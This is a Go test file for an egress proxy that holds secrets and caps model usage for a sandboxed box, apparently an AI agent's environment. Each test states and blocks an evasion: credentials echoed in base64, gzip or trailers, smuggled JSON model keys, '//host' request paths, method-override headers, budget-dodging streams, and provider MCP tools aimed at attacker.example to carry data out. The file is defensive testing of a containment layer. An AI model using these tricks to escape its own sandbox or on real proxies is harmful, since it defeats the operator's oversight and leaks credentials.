package egress_test

import (
	"bufio"
	"compress/gzip"
	"compress/zlib"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlock-run/airlock/egress"
)

// TestEchoedBasicCredential is the attack: a bound host that echoes the
// request's Authorization header (a debugging endpoint, an error page)
// returns the Basic credential the proxy wrote, base64 of user:REAL. A
// search for the real value in the answer misses it in that encoding, and
// the box decodes the real token. The proxy masks exactly what it wrote:
// the credential it encoded, in the encoding it used.
func TestEchoedBasicCredential(t *testing.T) {
	s := newSecretStack(t)
	c := s.client()
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+s.placeholder))
	code, body := do(t, c, "GET", s.url("api.github.test", "/repo.git/info/refs"), basic, "")
	if code != 200 || !strings.Contains(s.bound.all(), base64.StdEncoding.EncodeToString([]byte("x-access-token:"+realToken))) {
		t.Fatalf("basic auth: %d %q; upstream saw %q", code, body, s.bound.all())
	}
	_, echoed, _ := strings.Cut(body, "echo=")
	if raw, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(strings.TrimSpace(echoed), "Basic ")); err == nil &&
		strings.Contains(string(raw), realToken) {
		t.Fatalf("the box decoded the real token from the echoed Basic credential %q", echoed)
	}
	if echoed != basic {
		t.Fatalf("the echo reached the box as %q, want the box's own credential %q", echoed, basic)
	}
}

// TestModelNameSpelling is the attack: a request body whose "model" the
// proxy and the provider read differently. Go's JSON decoder matches
// object keys without regard to case and keeps the last of duplicates; a
// provider matches "model" exactly, and some parsers keep the first. So
// {"model":"unvetted","MODEL":"allowed"} was decided as the allowed model
// and answered by the unvetted one. The proxy reads the top-level keys
// itself: exactly one key spelled "model" (no other spelling of it) whose
// value is a string, or the request is refused before any provider.
func TestModelNameSpelling(t *testing.T) {
	allow := func(m string) bool { return m == "gpt-5" }
	s := newModelStackAllow(t, nil, allow, func(n int, w http.ResponseWriter, r *http.Request) {
		responsesStream(w, 1, 1)
	})
	refused := []struct{ name, body string }{
		{"another case after", `{"model":"gpt-unvetted","MODEL":"gpt-5"}`},
		{"title case after", `{"model":"gpt-unvetted","Model":"gpt-5"}`},
		{"a duplicate key", `{"model":"gpt-unvetted","model":"gpt-5"}`},
		{"an escaped duplicate", `{"model":"gpt-unvetted","mod\u0065l":"gpt-5"}`},
		{"a non-string model", `{"model":["gpt-5"]}`},
		{"no exact spelling", `{"MODEL":"gpt-5"}`},
		{"trailing data", `{"model":"gpt-5"} {"model":"gpt-unvetted"}`},
		{"not an object", `["model","gpt-5"]`},
	}
	for _, tc := range refused {
		t.Run(tc.name, func(t *testing.T) {
			code, _, body := s.ask(t, s.openai+"/responses", tc.body)
			if code != 400 && code != 403 {
				t.Fatalf("got %d %q, want a refusal", code, body)
			}
		})
	}
	if n := s.prov.count(); n != 0 {
		t.Fatalf("the provider saw %d refused requests: %q", n, s.prov.bodies)
	}
	if code, _, body := s.ask(t, s.openai+"/responses", `{"model":"gpt-5","input":"hi","stream":true}`); code != 200 {
		t.Fatalf("the allowed model: %d %q", code, body)
	}
}

// TestModelEndpointsOnly is the attack: the provider's key opens far more
// than inference. A batch, a fine-tuning job or an uploaded file spends
// tokens whose usage never passes through the proxy (so the budget never
// sees it), a batch names its models inside its requests (so models.allow
// never sees them), and the account's stored files and batches can be
// read. Only the inference endpoints of the two wire formats are served.
func TestModelEndpointsOnly(t *testing.T) {
	s := newModelStack(t, nil, func(n int, w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"id":"x","usage":{"input_tokens":1,"output_tokens":1}}`)
	})
	refused := []struct{ name, method, url, body string }{
		{"openai fine-tuning", "POST", s.openai + "/fine_tuning/jobs", `{"model":"gpt-5","training_file":"file-x"}`},
		{"openai batch", "POST", s.openai + "/batches", `{"model":"gpt-5","input_file_id":"file-x","endpoint":"/v1/responses"}`},
		{"anthropic batch", "POST", s.anthro + "/v1/messages/batches", `{"model":"claude-x","requests":[{"custom_id":"a","params":{"model":"claude-unvetted"}}]}`},
		{"openai files read", "GET", s.openai + "/files", ""},
		{"openai file content", "GET", s.openai + "/files/file-x/content", ""},
		{"openai model deletion", "DELETE", s.openai + "/models/ft-x", `{"model":"gpt-5"}`},
		{"the provider's root", "GET", strings.TrimSuffix(s.openai, "/v1"), ""},
	}
	for _, tc := range refused {
		t.Run(tc.name, func(t *testing.T) {
			if code, b := s.send(t, tc.method, tc.url, tc.body); code != 403 {
				t.Fatalf("got %d %q, want a 403", code, b)
			}
		})
	}
	if n := s.prov.count(); n != 0 {
		t.Fatalf("the provider saw %d refused requests: %q", n, s.prov.bodies)
	}
	for _, ok := range []struct{ method, url, body string }{
		{"POST", s.openai + "/responses", `{"model":"gpt-5"}`},
		{"POST", s.openai + "/chat/completions", `{"model":"gpt-5"}`},
		{"POST", s.openai + "/embeddings", `{"model":"gpt-5"}`},
		{"GET", s.openai + "/models", ""},
		{"POST", s.anthro + "/v1/messages", `{"model":"claude-x"}`},
		{"POST", s.anthro + "/v1/messages/count_tokens", `{"model":"claude-x"}`},
	} {
		if code, b := s.send(t, ok.method, ok.url, ok.body); code != 200 {
			t.Fatalf("%s %s: %d %q, want it served", ok.method, ok.url, code, b)
		}
	}
}

// send makes one request through the proxy; an empty body is none.
func (m *modelStack) send(t *testing.T, method, u, body string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest(method, u, strings.NewReader(body))
	if body == "" {
		req.Body = nil
	}
	resp, err := m.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(b)
}

// TestBudgetUnreportedUsage is the attack on limits.model_tokens: a
// streamed chat completion reports usage only when the request asks for
// it (stream_options.include_usage), which the box decides; without it the
// answer carried no usage and the budget was never charged. An answer to a
// model request whose usage is not seen is charged its bytes moved both
// ways, more than its tokens.
func TestBudgetUnreportedUsage(t *testing.T) {
	b := &egress.TokenBudget{Limit: 1000, Used: new(atomic.Int64)}
	s := newModelStack(t, b, func(n int, w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		for i := 0; i < 20; i++ {
			fmt.Fprintf(w, "data: {\"choices\":[{\"delta\":{\"content\":\"%s\"}}]}\n\n", strings.Repeat("x", 60))
		}
		io.WriteString(w, "data: [DONE]\n\n")
	})
	code, _, _ := s.ask(t, s.openai+"/chat/completions", `{"model":"gpt-5","stream":true}`)
	if code != 200 {
		t.Fatalf("first request: %d", code)
	}
	waitUsed(b, 1000)
	code, _, body := s.ask(t, s.openai+"/chat/completions", `{"model":"gpt-5","stream":true}`)
	if code != 429 || !strings.Contains(body, "limits.model_tokens") {
		t.Fatalf("after an answer without usage (budget used %d): %d %q, want the budget spent", b.Used.Load(), code, body)
	}
}

// TestBudgetStreamCut is the attack: the box reads a streamed answer's
// first events and hangs up before the event that reports its output
// tokens. The provider bills the whole answer; the proxy stopped reading
// and charged only the input. The proxy reads the rest of the answer for
// its usage after the box has gone.
func TestBudgetStreamCut(t *testing.T) {
	b := &egress.TokenBudget{Limit: 1000, Used: new(atomic.Int64)}
	s := newModelStack(t, b, func(n int, w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":10}}}\n\n")
		w.(http.Flusher).Flush()
		time.Sleep(300 * time.Millisecond) // the box hangs up meanwhile
		for i := 0; i < 200; i++ {
			fmt.Fprintf(w, "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"delta\":{\"text\":\"%s\"}}\n\n", strings.Repeat("y", 500))
		}
		io.WriteString(w, "event: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":5000}}\n\n")
	})
	req, _ := http.NewRequest("POST", s.anthro+"/v1/messages", strings.NewReader(`{"model":"claude-x","stream":true}`))
	resp, err := s.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if line, err := bufio.NewReader(resp.Body).ReadString('\n'); err != nil || !strings.Contains(line, "message_start") {
		t.Fatalf("first event: %q %v", line, err)
	}
	resp.Body.Close() // the box hangs up
	s.client.CloseIdleConnections()
	waitUsed(b, 5010)
	if got := b.Used.Load(); got < 5010 {
		t.Fatalf("budget charged %d for an answer of 10 input and 5000 output tokens the box cut short", got)
	}
}

// waitUsed waits a moment for the budget to reach n: an answer is charged
// once relayed.
func waitUsed(b *egress.TokenBudget, n int64) {
	for i := 0; i < 300 && b.Used.Load() < n; i++ {
		time.Sleep(10 * time.Millisecond)
	}
}

// rawIntercepted opens a CONNECT to host through the proxy, speaks TLS
// trusting the box's CA, writes req as is and returns the answer's status
// line and body.
func (s *secretStack) rawIntercepted(t *testing.T, host, req string) (int, string) {
	t.Helper()
	conn, err := net.Dial("tcp", s.httpAddr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	fmt.Fprintf(conn, "CONNECT %s:%d HTTP/1.1\r\nHost: x\r\n\r\n", host, ports[host])
	br := bufio.NewReader(conn)
	if r, err := http.ReadResponse(br, &http.Request{Method: "CONNECT"}); err != nil || r.StatusCode != 200 {
		t.Fatalf("CONNECT: %v %v", r, err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(s.ca.CertPEM())
	tc := tls.Client(&readConn{conn, br}, &tls.Config{ServerName: host, RootCAs: pool})
	if _, err := io.WriteString(tc, req); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		t.Fatalf("no answer: %v", err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(b)
}

// TestAbsoluteFormUpstream is the attack: inside a connection to the bound
// host the box asks for the path "//other.test/x". Go writes a request
// whose path begins with "//" in absolute form, so the bound host received
// "GET https://other.test/x" with the real credential, and a server
// (or a shared front end) that routes by the request URI, as RFC 9112
// says it must, takes it to other.test. A path must not begin with "//".
func TestAbsoluteFormUpstream(t *testing.T) {
	s := newSecretStack(t)
	for _, target := range []string{"//other.test/x", "//other.test:443/x?y=1", "//@other.test/x"} {
		t.Run(target, func(t *testing.T) {
			code, body := s.rawIntercepted(t, "api.github.test", fmt.Sprintf(
				"GET %s HTTP/1.1\r\nHost: api.github.test:%d\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n",
				target, ports["api.github.test"], s.placeholder))
			if code != 400 && code != 403 {
				t.Fatalf("got %d %q, want a refusal; the bound host saw %q", code, body, s.bound.all())
			}
		})
	}
	if got := s.bound.all(); got != "" {
		t.Fatalf("the bound host saw %q", got)
	}
}

// TestEchoCompressed is the attack: a bound host that compresses its
// answer although the proxy asked for none (Accept-Encoding: identity)
// echoes the credential inside gzip, where the search for the real value
// cannot see it, and the box decompresses the real token. An encoded
// answer to a request the proxy wrote a secret into, which the proxy asked
// to be unencoded, is refused.
func TestEchoCompressed(t *testing.T) {
	s := newSecretStack(t)
	gz := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		zw := gzip.NewWriter(w)
		fmt.Fprintf(zw, "echo=%s", r.Header.Get("Authorization"))
		zw.Close()
	}
	s.bound.handler.Store(&gz)
	c := s.client()
	req, _ := http.NewRequest("GET", s.url("api.github.test", "/user"), nil)
	req.Header.Set("Authorization", "Bearer "+s.placeholder)
	resp, err := c.Do(req) // the transport decompresses gzip itself
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if strings.Contains(string(b), realToken) {
		t.Fatalf("the box read the real token from a compressed echo: %q", b)
	}
	if resp.StatusCode != 502 {
		t.Fatalf("got %d %q, want a 502", resp.StatusCode, b)
	}
}

// TestHeaderBindingAnyCase: a binding's header is named as the policy
// writes it ("x-api-key: {}", "PRIVATE-TOKEN: {}"), while the proxy reads
// request headers in canonical form; the binding must still be written
// (it was refused as a placeholder in another header).
func TestHeaderBindingAnyCase(t *testing.T) {
	root := newTestRoot(t)
	ap, bound := tlsUpstream(t, root, "api.github.test")
	ph, _ := egress.Phantom(realToken)
	ca, _ := egress.NewCA("test-box", time.Now())
	o := policyOpts(t, []string{"api.github.test:*", "127.0.0.1:*"}, nil)
	o.Resolver = newResolver(map[string][]string{"api.github.test": {"127.0.0.1"}})
	o.CA, o.UpstreamRoots = ca, root.pool
	o.Secrets = []egress.Secret{{Name: "GITLAB_TOKEN", Value: realToken, Placeholder: ph,
		Hosts: []string{"api.github.test"}, Header: "authorization"}}
	s := &secretStack{stack: newStack(t, o), root: root, ca: ca, placeholder: ph, bound: bound}
	ports["api.github.test"] = int(ap.Port())
	code, body := do(t, s.client(), "GET", s.url("api.github.test", "/user"), "Bearer "+ph, "")
	if code != 200 || !strings.Contains(bound.all(), "auth=Bearer "+realToken) {
		t.Fatalf("a binding named in lower case: %d %q; upstream saw %q", code, body, bound.all())
	}
}

// TestModelAccountHeaders is the attack: the operator's key may belong to
// several organizations and projects, and the provider bills the one the
// request's OpenAI-Organization / OpenAI-Project header names. The box
// chose whom the operator's key charged. Those headers are the
// operator's, never the box's.
func TestModelAccountHeaders(t *testing.T) {
	var got atomic.Value
	s := newModelStack(t, nil, func(n int, w http.ResponseWriter, r *http.Request) {
		got.Store(r.Header.Get("Openai-Organization") + "|" + r.Header.Get("Openai-Project"))
		io.WriteString(w, `{"usage":{"input_tokens":1,"output_tokens":1}}`)
	})
	req, _ := http.NewRequest("POST", s.openai+"/responses", strings.NewReader(`{"model":"gpt-5"}`))
	req.Header.Set("OpenAI-Organization", "org-someone-else")
	req.Header.Set("OpenAI-Project", "proj-someone-else")
	resp, err := s.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("got %d", resp.StatusCode)
	}
	if v, _ := got.Load().(string); v != "|" {
		t.Fatalf("the provider was told the account %q by the box", v)
	}
}

// TestEchoInTrailer is the attack: a bound host echoes the credential in
// a chunked answer's trailer, which the proxy relayed without searching
// it. Trailers are not relayed (as on the request side).
func TestEchoInTrailer(t *testing.T) {
	s := newSecretStack(t)
	tr := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Trailer", "X-Echo")
		io.WriteString(w, "ok")
		w.(http.Flusher).Flush()
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
	}
	s.bound.handler.Store(&tr)
	req, _ := http.NewRequest("GET", s.url("api.github.test", "/user"), nil)
	req.Header.Set("Authorization", "Bearer "+s.placeholder)
	resp, err := s.client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || string(b) != "ok" {
		t.Fatalf("got %d %q", resp.StatusCode, b)
	}
	if strings.Contains(fmt.Sprint(resp.Trailer), realToken) {
		t.Fatalf("the box read the real token in a trailer: %v", resp.Trailer)
	}
}

// TestModelRequestPlaceholder: the model proxy reads every request whole,
// so a placeholder in it (a prompt the box filled with its environment, a
// header, the query) is refused like one sent to any other host the proxy
// reads, before it reaches the provider.
func TestModelRequestPlaceholder(t *testing.T) {
	ph, _ := egress.Phantom(realToken)
	s := newModelStackAllow(t, nil, func(string) bool { return true }, func(n int, w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"usage":{"input_tokens":1,"output_tokens":1}}`)
	}, func(o *egress.Options) {
		o.CA, _ = egress.NewCA("test-box", time.Now())
		o.Secrets = []egress.Secret{{Name: "GITHUB_TOKEN", Value: realToken, Placeholder: ph,
			Hosts: []string{"api.github.test"}, Header: "Authorization"}}
	})
	for _, tc := range []struct{ name, url, body, header string }{
		{"in the prompt", s.openai + "/responses", `{"model":"gpt-5","input":"my token is ` + ph + `"}`, ""},
		{"in the query", s.openai + "/responses?x=" + ph, `{"model":"gpt-5"}`, ""},
		{"in a header", s.openai + "/responses", `{"model":"gpt-5"}`, ph},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, _ := http.NewRequest("POST", tc.url, strings.NewReader(tc.body))
			if tc.header != "" {
				req.Header.Set("X-Note", tc.header)
			}
			resp, err := s.client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 403 || !strings.Contains(string(b), "placeholder of GITHUB_TOKEN") {
				t.Fatalf("got %d %q, want a 403 naming the placeholder", resp.StatusCode, b)
			}
		})
	}
	if n := s.prov.count(); n != 0 {
		t.Fatalf("the provider saw %d requests carrying a placeholder: %q", n, s.prov.bodies)
	}
}

// TestEncodedBodyPlaceholder is the attack on the tripwire: a placeholder
// in a request body the proxy reads, hidden by an encoding the server
// undoes: Content-Encoding gzip or deflate, or percent-escapes (a form
// body). The proxy searched bodies only as sent. It now decodes what it
// can (gzip, deflate, percent-escapes), and refuses an encoded body it
// cannot read (another coding, or over 1 MiB encoded).
func TestEncodedBodyPlaceholder(t *testing.T) {
	s := newSecretStack(t)
	c := s.client()
	ph := s.placeholder
	compress := func(zip func(io.Writer) io.WriteCloser) func(string) string {
		return func(b string) string {
			var buf strings.Builder
			zw := zip(&buf)
			io.WriteString(zw, b)
			zw.Close()
			return buf.String()
		}
	}
	gz := compress(func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) })
	zl := compress(func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) })
	pct := "%" + fmt.Sprintf("%02X", ph[0]) + ph[1:5] + "%" + fmt.Sprintf("%02x", ph[5]) + ph[6:]
	for _, tc := range []struct{ name, coding, body string }{
		{"gzip", "gzip", gz(`{"t":"` + ph + `"}`)},
		{"deflate", "deflate", zl(`{"t":"` + ph + `"}`)},
		{"gzip twice", "gzip, gzip", gz(gz(`{"t":"` + ph + `"}`))},
		{"percent-escaped form", "", "t=" + pct},
		{"an unreadable coding", "br", "\x0b\x02\x80hello\x03"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, _ := http.NewRequest("POST", s.url("api.github.test", "/gists"), strings.NewReader(tc.body))
			if tc.coding != "" {
				req.Header.Set("Content-Encoding", tc.coding)
			}
			code, body := send(t, c, req)
			if code != 403 {
				t.Fatalf("got %d %q, want a 403", code, body)
			}
		})
	}
	if got := s.bound.all(); got != "" {
		t.Fatalf("the bound host saw %q", got)
	}
	before := s.bound.all()
	req, _ := http.NewRequest("POST", s.url("api.github.test", "/gists"), strings.NewReader(gz(`{"t":"fine"}`)))
	req.Header.Set("Content-Encoding", "gzip")
	if code, body := send(t, c, req); code != 200 {
		t.Fatalf("a clean gzip body: %d %q", code, body)
	}
	if got := strings.TrimPrefix(s.bound.all(), before); strings.Contains(got, ph) {
		t.Fatalf("the bound host saw %q", got)
	}
}

// TestBudgetConcurrent is the attack on limits.model_tokens: the budget
// was checked when a request arrived, so a box that sends many requests at
// once had every one of them admitted against the same unspent budget and
// spent it many times over. A request now waits while the requests in
// flight could spend what is left: it reserves its declared output cap
// (max_tokens, max_output_tokens, max_completion_tokens) and an estimate of
// its input, or the whole budget when it declares no cap.
func TestBudgetConcurrent(t *testing.T) {
	b := &egress.TokenBudget{Limit: 1000, Used: new(atomic.Int64), Held: new(egress.Reservations)}
	s := newModelStack(t, b, func(n int, w http.ResponseWriter, r *http.Request) {
		time.Sleep(200 * time.Millisecond)
		io.WriteString(w, `{"usage":{"input_tokens":100,"output_tokens":800}}`)
	})
	const n = 6
	codes := make(chan int, n)
	for i := 0; i < n; i++ {
		go func() {
			resp, err := s.client.Post(s.openai+"/responses", "application/json", strings.NewReader(`{"model":"gpt-5"}`))
			if err != nil {
				codes <- 0
				return
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			codes <- resp.StatusCode
		}()
	}
	ok := 0
	for i := 0; i < n; i++ {
		if <-codes == 200 {
			ok++
		}
	}
	waitUsed(b, 1800)
	if ok > 2 || b.Used.Load() > 1800 {
		t.Fatalf("%d of %d concurrent requests answered, %d tokens spent of a 1000 budget; want at most 2 (the one that crosses it)", ok, n, b.Used.Load())
	}
	// Declared caps that fit run side by side.
	b2 := &egress.TokenBudget{Limit: 10000, Used: new(atomic.Int64), Held: new(egress.Reservations)}
	s2 := newModelStack(t, b2, func(n int, w http.ResponseWriter, r *http.Request) {
		time.Sleep(300 * time.Millisecond)
		io.WriteString(w, `{"usage":{"input_tokens":10,"output_tokens":100}}`)
	})
	start := time.Now()
	for i := 0; i < 3; i++ {
		go func() {
			resp, err := s2.client.Post(s2.openai+"/responses", "application/json", strings.NewReader(`{"model":"gpt-5","max_output_tokens":200}`))
			if err == nil {
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
			codes <- 0
		}()
	}
	for i := 0; i < 3; i++ {
		<-codes
	}
	if d := time.Since(start); d > 800*time.Millisecond {
		t.Fatalf("three requests whose caps fit took %v: they were not run side by side", d)
	}
}

// TestBudgetLongAnswer: an answer too long to keep whole (a large
// embeddings list) still has its usage read, from its end, and is charged
// its tokens, not its bytes.
func TestBudgetLongAnswer(t *testing.T) {
	b := &egress.TokenBudget{Limit: 1 << 30, Used: new(atomic.Int64)}
	s := newModelStack(t, b, func(n int, w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"object":"list","data":[{"embedding":[`)
		for i := 0; i < 300000; i++ {
			io.WriteString(w, "0.0123456,")
		}
		io.WriteString(w, `0]}],"model":"x","usage":{"prompt_tokens":50,"total_tokens":50}}`)
	})
	if code, _, _ := s.ask(t, s.openai+"/embeddings", `{"model":"gpt-5","input":"x"}`); code != 200 {
		t.Fatalf("got %d", code)
	}
	waitUsed(b, 50)
	time.Sleep(50 * time.Millisecond)
	if got := b.Used.Load(); got != 50 {
		t.Fatalf("a 3 MB answer reporting 50 tokens was charged %d", got)
	}
}

// TestOverrideHeaders is the attack on request rules and the Host check:
// many servers and frameworks take the method, path or host from a header
// instead of the request line (X-HTTP-Method-Override, X-Original-URL,
// X-Forwarded-Host, …). A read-only rule admitted "GET /repos/acme/x"
// that the server ran as a DELETE of /admin, and the bound host's front
// end could route the credential by X-Forwarded-Host. Such headers are
// refused on every request the proxy decides.
func TestOverrideHeaders(t *testing.T) {
	s := newSecretStack(t)
	c := s.client()
	for _, tc := range []struct{ host, name, value string }{
		{"rules.test", "X-HTTP-Method-Override", "DELETE"},
		{"rules.test", "X-Http-Method", "DELETE"},
		{"rules.test", "X-Method-Override", "DELETE"},
		{"rules.test", "X-Original-URL", "/admin/delete"},
		{"rules.test", "X-Rewrite-URL", "/admin/delete"},
		{"api.github.test", "X-Forwarded-Host", "other.test"},
		{"api.github.test", "X-Host", "other.test"},
		{"api.github.test", "Forwarded", "host=other.test"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, _ := http.NewRequest("GET", s.url(tc.host, "/repos/acme/x"), nil)
			req.Header.Set(tc.name, tc.value)
			req.Header.Set("Authorization", "Bearer "+s.placeholder)
			if tc.host == "rules.test" {
				req.Header.Del("Authorization")
			}
			if code, body := send(t, c, req); code != 403 {
				t.Fatalf("got %d %q, want a 403", code, body)
			}
		})
	}
	// Plain HTTP to a host with rules.
	out := s.raw(t, fmt.Sprintf("GET http://rules.test:%d/repos/acme/x HTTP/1.1\r\nHost: rules.test:%d\r\nX-HTTP-Method-Override: DELETE\r\n\r\n",
		ports["rules.test"], ports["rules.test"]))
	if !strings.HasPrefix(out, "HTTP/1.1 403") || !strings.Contains(out, "X-Http-Method-Override") {
		t.Fatalf("plain http: %q", out)
	}
	if got := s.ruled.all() + s.bound.all(); got != "" {
		t.Fatalf("the upstreams saw %q", got)
	}
}

// TestModelBackground is the attack on the budget: a Responses API
// request with "background": true is answered at once, without usage,
// while the provider goes on generating and billing out of the proxy's
// sight. A background request is refused.
func TestModelBackground(t *testing.T) {
	b := &egress.TokenBudget{Limit: 1000, Used: new(atomic.Int64)}
	s := newModelStack(t, b, func(n int, w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"id":"resp_1","status":"queued","usage":null}`)
	})
	for _, body := range []string{`{"model":"gpt-5","background":true}`, `{"model":"gpt-5","background":"yes"}`} {
		if code, b := s.send(t, "POST", s.openai+"/responses", body); code != 400 && code != 403 {
			t.Fatalf("%s: got %d %q, want a refusal", body, code, b)
		}
	}
	if n := s.prov.count(); n != 0 {
		t.Fatalf("the provider saw %d background requests", n)
	}
	if code, b := s.send(t, "POST", s.openai+"/responses", `{"model":"gpt-5","background":false}`); code != 200 {
		t.Fatalf("a foreground request: %d %q", code, b)
	}
}

// TestModelProviderTools is the attack on the box's network policy: a
// provider-side tool (OpenAI's remote MCP tool and web search,
// Anthropic's MCP connector and web fetch) makes the provider reach a
// server the box names, carrying what the box put in the request: an
// egress channel around net.allow, paid with the operator's key. Only
// tools the client runs are passed.
func TestModelProviderTools(t *testing.T) {
	s := newModelStack(t, nil, func(n int, w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"usage":{"input_tokens":1,"output_tokens":1}}`)
	})
	for _, tc := range []struct{ name, url, body string }{
		{"openai remote mcp", s.openai + "/responses", `{"model":"gpt-5","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/sse?d=secret"}]}`},
		{"openai web search", s.openai + "/responses", `{"model":"gpt-5","tools":[{"type":"web_search"}]}`},
		{"a type in another case", s.openai + "/responses", `{"model":"gpt-5","tools":[{"type":"function","TYPE":"mcp"}]}`},
		{"a type twice", s.openai + "/responses", `{"model":"gpt-5","tools":[{"type":"mcp","type":"function"}]}`},
		{"chat web search options", s.openai + "/chat/completions", `{"model":"gpt-5","web_search_options":{}}`},
		{"anthropic mcp connector", s.anthro + "/v1/messages", `{"model":"claude-x","mcp_servers":[{"type":"url","url":"https://attacker.example/mcp"}]}`},
		{"anthropic web fetch", s.anthro + "/v1/messages", `{"model":"claude-x","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if code, b := s.send(t, "POST", tc.url, tc.body); code != 400 && code != 403 {
				t.Fatalf("got %d %q, want a refusal", code, b)
			}
		})
	}
	if n := s.prov.count(); n != 0 {
		t.Fatalf("the provider saw %d requests with provider-side tools: %q", n, s.prov.bodies)
	}
	for _, body := range []string{
		`{"model":"gpt-5","tools":[{"type":"function","name":"shell","parameters":{}},{"type":"custom","name":"apply_patch"},{"type":"local_shell"}]}`,
		`{"model":"claude-x","tools":[{"name":"shell","input_schema":{}},{"type":"bash_20250124","name":"bash"}]}`,
	} {
		u := s.openai + "/responses"
		if strings.Contains(body, "claude") {
			u = s.anthro + "/v1/messages"
		}
		if code, b := s.send(t, "POST", u, body); code != 200 {
			t.Fatalf("client tools %s: %d %q", body, code, b)
		}
	}
}
